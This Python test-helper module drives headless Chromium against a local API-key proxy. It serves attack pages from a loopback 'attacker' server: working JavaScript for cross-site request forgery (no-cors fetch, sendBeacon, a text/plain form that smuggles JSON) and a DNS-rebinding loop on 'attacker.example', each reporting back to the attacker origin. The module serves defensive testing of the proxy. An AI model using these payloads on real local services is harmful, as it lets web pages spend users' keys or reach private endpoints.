"""
Helpers for the real-browser tests (L{tests.test_browser}):

  - L{findChromium}, L{launchChromium}: a fresh headless Chromium per test,
    driven over its DevTools HTTP endpoint (C{PUT /json/new?URL} opens a
    page); the test is skipped, with the reason, where it cannot start;
  - L{startAttacker}: the attacker's web server on a loopback origin that is
    not the proxy's, serving the attack pages and collecting their reports;
  - L{Wiretap}: every request head that reached the proxy's listening
    socket, as the browser sent it (the upstream never sees C{Host});
  - L{AttackRecord}: what one attack did, end to end, in words.
"""

from __future__ import annotations

import json
import os
import shutil
from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, cast

from twisted.internet import protocol, reactor
from twisted.internet.address import IPv4Address
from twisted.internet.defer import Deferred
from twisted.internet.error import ProcessExitedAlready
from twisted.internet.interfaces import IListeningPort
from twisted.python.failure import Failure
from twisted.trial.unittest import SkipTest, TestCase
from twisted.web.resource import Resource
from twisted.web.server import Request, Site

from tests.support import CANARY_KEY, childEnvironment, httpClient, waitFor

if TYPE_CHECKING:
    from tests.fakeupstream import RecordedRequest

# The made-up name a DNS-rebinding page is served from; Chromium resolves
# it to 127.0.0.1 (--host-resolver-rules), as a rebound name would.
REBINDING_HOST = "attacker.example"

CHROMIUM_NAMES = ("chromium", "chromium-browser", "google-chrome", "chrome")

# Headless, as root (no sandbox), and quiet: without the background
# networking flags an offline Chromium keeps retrying refused connections.
CHROMIUM_FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--remote-debugging-port=0",
    f"--host-resolver-rules=MAP {REBINDING_HOST} 127.0.0.1",
)

START_TIMEOUT = 30.0

# What a page tries to make the proxy forward.
ATTACK_BODY = json.dumps(
    {"model": "gpt-4o-mini", "input": "a web page spends your key", "stream": True}
)


# Chromium --------------------------------------------------------------------


def findChromium() -> str | None:
    """
    The Chromium to test with: C{$CHROMIUM} if set, else the first of
    L{CHROMIUM_NAMES} on C{PATH}, else None.
    """
    explicit = os.environ.get("CHROMIUM")
    if explicit:
        return explicit
    for name in CHROMIUM_NAMES:
        found = shutil.which(name)
        if found is not None:
            return found
    return None


class _ChromiumProtocol(protocol.ProcessProtocol):
    def __init__(self) -> None:
        self.output = bytearray()
        self.reason: Failure | None = None
        self.ended: Deferred[None] = Deferred()

    def childDataReceived(self, childFD: int, data: bytes) -> None:
        # Chromium is chatty (D-Bus, GPU): keep the last lines for reasons.
        self.output += data
        del self.output[:-8192]

    def processEnded(self, reason: Failure) -> None:
        self.reason = reason
        self.ended.callback(None)

    def tail(self, lines: int = 8) -> str:
        text = self.output.decode("utf-8", "replace").strip().splitlines()
        return " | ".join(text[-lines:])


@dataclass
class Chromium:
    """
    A running headless Chromium and its DevTools HTTP port.
    """

    process: _ChromiumProtocol
    transport: Any
    devtoolsPort: int
    testCase: TestCase

    async def open(self, url: str) -> str:
        """
        Open C{url} in a new page (tab); return its DevTools target id.
        """
        client = httpClient(self.testCase)
        response = await client.put(
            f"http://127.0.0.1:{self.devtoolsPort}/json/new?{url}", data=b""
        )
        body = await response.content()
        if response.code != 200:
            raise AssertionError(f"DevTools refused to open {url}: {body!r}")
        return str(json.loads(body)["id"])

    async def stop(self) -> None:
        """
        Stop the browser (SIGTERM, then SIGKILL) and wait for it to end;
        idempotent, and also done at cleanup.
        """
        await _stopChromium(self.process, self.transport)


def _devtoolsPort(path: str) -> int | None:
    try:
        with open(path) as f:
            first = f.readline().strip()
    except FileNotFoundError:
        return None
    return int(first) if first.isdigit() else None


async def _stopChromium(proto: _ChromiumProtocol, transport: Any) -> None:
    for signal, grace in (("TERM", 10.0), ("KILL", 30.0)):
        if proto.ended.called:
            return
        try:
            transport.signalProcess(signal)
        except ProcessExitedAlready:
            return
        try:
            await waitFor(lambda: proto.ended.called, grace, interval=0.05)
        except AssertionError:
            continue
    if not proto.ended.called:
        await proto.ended


async def launchChromium(testCase: TestCase) -> Chromium:
    """
    Start a headless Chromium with a fresh profile (stopped at cleanup) and
    wait until its DevTools endpoint listens.

    @raise SkipTest: Chromium is not installed, or it does not start.
    """
    executable = findChromium()
    if executable is None:
        raise SkipTest(
            "Chromium is not installed (Debian package 'chromium'; or set "
            "CHROMIUM=/path/to/chromium): the browser tests need a real one"
        )
    profile = os.path.abspath(testCase.mktemp())
    os.makedirs(profile)
    argv = [executable, *CHROMIUM_FLAGS, f"--user-data-dir={profile}", "about:blank"]
    proto = _ChromiumProtocol()
    try:
        transport = reactor.spawnProcess(
            proto, executable, argv, env=childEnvironment()
        )
    except OSError as e:
        raise SkipTest(f"Chromium ({executable}) cannot be run: {e}") from None
    testCase.addCleanup(_stopChromium, proto, transport)
    portFile = os.path.join(profile, "DevToolsActivePort")
    try:
        await waitFor(
            lambda: proto.ended.called or _devtoolsPort(portFile),
            START_TIMEOUT,
            interval=0.05,
        )
    except AssertionError:
        raise SkipTest(
            f"Chromium ({executable}) did not start within {START_TIMEOUT:.0f} s: "
            f"{proto.tail()}"
        ) from None
    port = _devtoolsPort(portFile)
    if proto.ended.called or port is None:
        reason = proto.reason.value if proto.reason is not None else "no port"
        raise SkipTest(
            f"Chromium ({executable}) failed to start ({reason}): {proto.tail()}"
        )
    return Chromium(proto, transport, port, testCase)


# The attacker's server ---------------------------------------------------------

# Every attack a page can run; the page runs CONFIG.attack and reports what
# it could observe to CONFIG.report + "/" + stage (a no-cors POST, so the
# report also works from a page whose origin is not the reporter's).
_SCRIPT = r"""
"use strict";
const CONFIG = %(config)s;
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

function report(stage, data) {
  return fetch(CONFIG.report + "/" + stage, {
    method: "POST", mode: "no-cors", body: JSON.stringify(data),
  });
}

function withDeadline(promise, ms) {
  return Promise.race([
    promise, sleep(ms).then(() => ({outcome: "no answer within " + ms + " ms"})),
  ]);
}

async function describe(request) {
  let response;
  try {
    response = await request;
  } catch (e) {
    return {outcome: "network error", error: String(e)};
  }
  const seen = {outcome: response.type === "opaque" ? "opaque" : "readable",
                type: response.type, status: response.status};
  if (response.type !== "opaque") {
    seen.contentType = response.headers.get("content-type");
    seen.body = (await response.text()).slice(0, 2000);
  }
  return seen;
}

function beacon(body) {
  try {
    return {outcome: navigator.sendBeacon(CONFIG.target, body)
                     ? "queued" : "refused by the browser"};
  } catch (e) {
    return {outcome: "exception", error: String(e)};
  }
}

function submitForm(enctype) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = "sink";
    document.body.appendChild(frame);
    const form = document.createElement("form");
    form.method = "post";
    form.enctype = enctype;
    form.action = CONFIG.target;
    form.target = "sink";
    // text/plain sends name=value: the name opens a JSON object, the value
    // closes it, so the body is {"model": ..., "pad": "="}.
    const body = JSON.parse(CONFIG.body);
    body.pad = "";
    const text = JSON.stringify(body);
    const input = document.createElement("input");
    input.type = "hidden";
    input.name = text.slice(0, -2);
    input.value = text.slice(-2);
    form.appendChild(input);
    document.body.appendChild(form);
    frame.addEventListener("load", () => {
      let readable = null;
      try {
        readable = frame.contentDocument.body.innerText.slice(0, 400);
      } catch (e) {
        readable = null;
      }
      resolve({outcome: "iframe loaded",
               readable: readable === null ? "no (cross-origin frame)" : readable});
    }, {once: true});
    form.submit();
  });
}

async function rebind() {
  // The page is on the rebound name: report once loaded, then keep sending
  // the same-origin request until someone other than the attacker answers.
  await report("loaded", {});
  const deadline = Date.now() + 25000;
  let tries = 0, errors = 0;
  while (Date.now() < deadline) {
    tries++;
    try {
      const response = await fetch(CONFIG.target, {
        method: "POST", cache: "no-store",
        headers: {"Content-Type": "application/json"}, body: CONFIG.body,
      });
      if (response.headers.get("x-attacker") === null) {
        const seen = await describe(Promise.resolve(response));
        return Object.assign(seen, {tries: tries, networkErrors: errors});
      }
      await response.text();
    } catch (e) {
      errors++;
    }
    await sleep(50);
  }
  return {outcome: "the proxy never answered", tries: tries, networkErrors: errors};
}

const ATTACKS = {
  noCorsFetch: () => describe(fetch(CONFIG.target, {
    method: "POST", mode: "no-cors",
    headers: {"Content-Type": "text/plain"}, body: CONFIG.body,
  })),
  beaconString: () => beacon(CONFIG.body),
  beaconBlob: () => beacon(new Blob([CONFIG.body], {type: "application/json"})),
  formTextPlain: () => submitForm("text/plain"),
  corsJSONFetch: () => describe(fetch(CONFIG.target, {
    method: "POST", headers: {"Content-Type": "application/json"},
    body: CONFIG.body,
  })),
  corsGet: () => describe(fetch(CONFIG.target)),
  rebind: rebind,
};

(async () => {
  let seen;
  try {
    seen = await withDeadline(Promise.resolve().then(ATTACKS[CONFIG.attack]),
                              CONFIG.deadlineMs);
  } catch (e) {
    seen = {outcome: "page script failed", error: String(e)};
  }
  seen.origin = location.origin;
  await report("result", seen);
})();
"""

_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>%(attack)s</title></head>
<body><p>Nothing to see here.</p><script>%(script)s</script></body></html>
"""


class _AttackerResource(Resource):
    isLeaf = True

    def __init__(self, server: AttackerServer) -> None:
        super().__init__()
        self._server = server

    def render(self, request: Request) -> bytes:
        parts = request.path.decode("ascii", "replace").strip("/").split("/", 1)
        request.setHeader(b"cache-control", b"no-store")
        if request.method == b"GET" and parts[0] == "page" and len(parts) == 2:
            config = self._server.pages.get(parts[1])
            if config is not None:
                request.setHeader(b"content-type", b"text/html; charset=utf-8")
                script = _SCRIPT % {"config": json.dumps(config)}
                return (_PAGE % {"attack": config["attack"], "script": script}).encode()
        if request.method == b"POST" and parts[0] == "report" and len(parts) == 2:
            request.setHeader(b"access-control-allow-origin", b"*")
            assert request.content is not None
            self._server.received(parts[1], request.content.read())
            return b"thanks\n"
        if request.method == b"POST" and request.path == b"/v1/responses":
            # Before the rebinding: the attacker answers its own page.
            request.setResponseCode(409)
            request.setHeader(b"x-attacker", b"still the attacker")
            return b"not yet\n"
        request.setResponseCode(404)
        return b"no such page\n"


class _TrackedSite(Site):
    """
    A site that keeps each connection's transport, to abort it when the
    attacker's server stops (the rebinding must not wait for keep-alive).
    """

    def __init__(self, resource: Resource) -> None:
        super().__init__(resource)
        self.connections: list[tuple[list[Any], Deferred[None]]] = []

    def buildProtocol(self, addr: Any) -> Any:
        proto = super().buildProtocol(addr)
        transport: list[Any] = []
        lost: Deferred[None] = Deferred()
        makeConnection, connectionLost = proto.makeConnection, proto.connectionLost

        def madeConnection(t: Any) -> None:
            transport.append(t)
            makeConnection(t)

        def lostConnection(reason: Failure) -> None:
            connectionLost(reason)
            if not lost.called:
                lost.callback(None)

        proto.makeConnection = madeConnection
        proto.connectionLost = lostConnection
        self.connections.append((transport, lost))
        return proto


@dataclass
class AttackerServer:
    """
    The attacker's web server: attack pages under C{/page/NAME}, reports
    under C{/report/NAME/STAGE}.

    @ivar hostname: the host name its URLs use (C{interface} unless given).
    """

    site: _TrackedSite
    listening: IListeningPort
    hostname: str
    pages: dict[str, dict[str, Any]] = field(default_factory=dict)
    reports: dict[str, Deferred[dict[str, Any]]] = field(default_factory=dict)
    stopped: bool = False

    @property
    def port(self) -> int:
        address = self.listening.getHost()
        assert isinstance(address, IPv4Address)
        return address.port

    @property
    def origin(self) -> str:
        return f"http://{self.hostname}:{self.port}"

    def addPage(
        self,
        name: str,
        attack: str,
        target: str,
        reporter: AttackerServer | None = None,
        deadlineMs: int = 25000,
    ) -> str:
        """
        Serve a page that runs C{attack} against C{target} and reports to
        C{reporter} (this server by default); return the page's URL.
        """
        reportOrigin = (reporter or self).origin
        self.pages[name] = {
            "attack": attack,
            "target": target,
            "report": f"{reportOrigin}/report/{name}",
            "body": ATTACK_BODY,
            "deadlineMs": deadlineMs,
        }
        return f"{self.origin}/page/{name}"

    def _report(self, key: str) -> Deferred[dict[str, Any]]:
        if key not in self.reports:
            self.reports[key] = Deferred()
        return self.reports[key]

    def received(self, key: str, body: bytes) -> None:
        """
        A page reported: fire the Deferred of C{key} (C{NAME/STAGE}).
        """
        d = self._report(key)
        if not d.called:
            d.callback(json.loads(body))

    async def report(
        self, name: str, stage: str = "result", timeout: float = 30.0
    ) -> dict[str, Any]:
        """
        Wait (at most C{timeout} seconds) for page C{name}'s C{stage} report.
        """
        d = self._report(f"{name}/{stage}")
        try:
            await waitFor(lambda: d.called, timeout, interval=0.05)
        except AssertionError:
            raise AssertionError(
                f"page {name!r} sent no {stage!r} report within {timeout} s"
            ) from None
        result: dict[str, Any] = await d
        return result

    async def stop(self) -> None:
        """
        Stop listening and close every connection (idempotent).
        """
        if self.stopped:
            return
        self.stopped = True
        stopped = self.listening.stopListening()
        if stopped is not None:
            await stopped
        for transport, lost in self.site.connections:
            if not lost.called:
                for t in transport:
                    t.abortConnection()
                await lost


def startAttacker(
    testCase: TestCase,
    interface: str = "127.0.0.2",
    port: int = 0,
    hostname: str | None = None,
) -> AttackerServer:
    """
    Serve the attacker's site on C{interface}:C{port}; stopped when the test
    ends.
    """
    site = _TrackedSite(Resource())
    server = AttackerServer(
        # Twisted's annotations want a bare ServerFactory.
        site,
        cast(Any, reactor).listenTCP(port, site, interface=interface),
        hostname or interface,
    )
    site.resource = _AttackerResource(server)
    testCase.addCleanup(server.stop)
    return server


# What reached the proxy --------------------------------------------------------


@dataclass
class SeenRequest:
    """
    One request head as it arrived on the proxy's socket.
    """

    method: str
    target: str
    headers: list[tuple[str, str]]

    def header(self, name: str) -> str | None:
        lower = name.lower()
        values = [v for k, v in self.headers if k.lower() == lower]
        return ", ".join(values) if values else None


def _parseHeads(data: bytes) -> list[SeenRequest]:
    seen = []
    while b"\r\n\r\n" in data:
        head, _, data = data.partition(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        method, target = (lines[0].split(" ") + ["", ""])[:2]
        headers = [
            (name.strip(), value.strip())
            for name, _, value in (line.partition(":") for line in lines[1:])
        ]
        request = SeenRequest(method, target, headers)
        seen.append(request)
        if request.header("transfer-encoding") is not None:
            break  # browsers send these requests with a Content-Length
        length = request.header("content-length") or "0"
        data = data[int(length) :] if length.isdigit() else b""
    return seen


class Wiretap:
    """
    Record the raw bytes of every connection to C{factory} (the proxy's
    site), to show what the browser sent even when nothing was forwarded.
    """

    def __init__(self, factory: Any) -> None:
        self._buffers: list[bytearray] = []
        original = factory.buildProtocol

        def buildProtocol(addr: Any) -> Any:
            proto = original(addr)
            buffer = bytearray()
            self._buffers.append(buffer)
            receive = proto.dataReceived

            def dataReceived(data: bytes) -> None:
                buffer.extend(data)
                receive(data)

            proto.dataReceived = dataReceived
            return proto

        factory.buildProtocol = buildProtocol

    def requests(self) -> list[SeenRequest]:
        """
        The request heads received so far, connection by connection.
        """
        return [r for buffer in self._buffers for r in _parseHeads(bytes(buffer))]


def exchanges(events: Any) -> list[dict[str, Any]]:
    """
    The proxy's exchange log events (C{exchange=True}) among C{events}.
    """
    return [dict(e) for e in events if e.get("exchange")]


def jsonLogEvents(data: bytes) -> list[dict[str, Any]]:
    """
    The events of a C{--log-format json} log (Twisted's JSON file format:
    each record starts with C{\\x1e}); an unfinished last record is skipped.
    """
    events = []
    for chunk in data.decode("utf-8", "replace").split("\x1e"):
        try:
            event = json.loads(chunk)
        except ValueError:
            continue
        if isinstance(event, dict):
            events.append(event)
    return events


BROWSER_HEADERS = (
    "Host",
    "Origin",
    "Referer",
    "Content-Type",
    "Sec-Fetch-Site",
    "Sec-Fetch-Mode",
    "Sec-Fetch-Dest",
    "Sec-Fetch-User",
    "Access-Control-Request-Method",
    "Access-Control-Request-Headers",
    "Access-Control-Request-Private-Network",
)


def _pick(header: Any, names: tuple[str, ...] = BROWSER_HEADERS) -> str:
    parts = []
    for name in names:
        value = header(name)
        if value is not None:
            parts.append(f"{name}: {value}")
    return "; ".join(parts) or "(none of the browser headers)"


def _upstreamHeader(request: RecordedRequest) -> Any:
    def header(name: str) -> str | None:
        values = request.header(name.encode())
        return b", ".join(values).decode("latin-1") if values else None

    return header


@dataclass
class AttackRecord:
    """
    What one attack did: what the page saw, what reached the proxy (as sent
    and as logged) and what reached the upstream.
    """

    name: str
    page: dict[str, Any]
    atProxy: list[SeenRequest]
    logged: list[dict[str, Any]]
    atUpstream: list[RecordedRequest]

    def describe(self) -> str:
        """
        The record in words, for failure messages and the test log.
        """
        page = dict(self.page)
        if len(str(page.get("body", ""))) > 300:
            page["body"] = page["body"][:300] + "..."
        lines = [f"attack {self.name}:", f"  the page saw: {json.dumps(page)}"]
        lines.append(f"  requests that reached the proxy: {len(self.atProxy)}")
        for r in self.atProxy:
            lines.append(f"    {r.method} {r.target} -- {_pick(r.header)}")
        lines.append(f"  the proxy logged: {len(self.logged)} exchange(s)")
        for e in self.logged:
            lines.append(
                f"    {e.get('method')} {e.get('path')} -> {e.get('status')} "
                f"({e.get('outcome')}, upstream {e.get('upstream_status')}, "
                f"code {e.get('code')})"
            )
        lines.append(
            f"  requests that reached the upstream: {len(self.atUpstream)}"
            " (its Host is the proxy's)"
        )
        for u in self.atUpstream:
            key = u.header(b"authorization") == [f"Bearer {CANARY_KEY}".encode()]
            lines.append(
                f"    {u.method.decode()} {u.uri.decode()} "
                f"{'WITH THE KEY' if key else 'without the key'} -- "
                f"{_pick(_upstreamHeader(u), BROWSER_HEADERS[1:])}; "
                f"body {u.body[:80]!r}"
            )
        return "\n".join(lines)
